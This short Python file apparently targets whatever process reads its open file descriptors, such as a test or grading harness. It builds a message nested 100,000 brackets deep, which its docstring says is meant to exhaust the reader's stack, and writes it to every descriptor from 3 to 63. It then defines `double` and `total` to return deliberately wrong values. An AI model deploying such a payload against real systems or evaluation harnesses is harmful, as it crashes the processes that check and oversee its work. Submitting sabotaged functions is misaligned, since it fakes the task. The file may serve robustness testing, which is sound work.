"""A message nested a hundred thousand deep, to exhaust the reader's stack."""

import os

body = b'{"map":{"event":' + b"[" * 100_000 + b"]" * 100_000 + b"}}"
payload = len(body).to_bytes(8, "little") + body
for descriptor in range(3, 64):
    try:
        os.write(descriptor, b"D" + len(payload).to_bytes(8, "little") + payload)
    except OSError:
        pass


def double(x):
    return x * 0


def total(values):
    return -1.0
